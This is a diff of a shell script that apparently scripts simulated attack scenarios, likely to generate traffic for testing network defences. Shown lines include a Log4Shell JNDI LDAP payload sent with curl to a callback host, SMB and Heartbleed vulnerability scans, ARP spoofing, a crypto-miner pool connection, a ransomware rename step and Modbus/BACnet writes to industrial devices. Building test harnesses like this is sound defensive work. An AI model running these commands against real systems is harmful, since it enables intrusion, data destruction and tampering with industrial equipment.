@@ -9,7 +9,7 @@ log4shell() { A curl -s -A '${jndi:ldap://10.66.0.66:1389/a}' http://$web/; A cu
 scenario smb-exploit,scan+directory-recon ms17_check
 ms17_check() { A nmap -n -Pn -p 445 --script smb-vuln-ms17-010,smb-vuln-ms08-067 $files; }
 scenario service-exploit,scan heartbleed
-heartbleed() { at mail true; A nmap -n -Pn -p 993 --script ssl-heartbleed $mail; }
+heartbleed() { agent att heartbleed $mail 993; }
 scenario arp-spoofing arpspoof
 arpspoof() { A timeout 20 arpspoof -i eth0 -t $net.51 $net.1; }
 scenario forced-authentication name_poison
@@ -33,7 +33,7 @@ stratum() { (agent out pool 203.0.113.14 3333) & sleep 1; agent pc1 miner 203.0.
 scenario ransomware rewrite_rename
 rewrite_rename() { agent att ransom $files rename; }
 scenario ics-command modbus_write
-modbus_write() { at dev true; (at adm "$py" "$here/ot.py" poll $dev) & sleep 20; A "$py" "$here/ot.py" modbus-write $dev; kill %1; }
+modbus_write() { (at adm "$py" "$here/ot.py" poll $dev) & sleep 20; A "$py" "$here/ot.py" modbus-write $dev; kill %1; }
 scenario ics-command bacnet_write
 bacnet_write() { A "$py" "$here/ot.py" bacnet-write $dev; }
 scenario executable-transfer exe_http
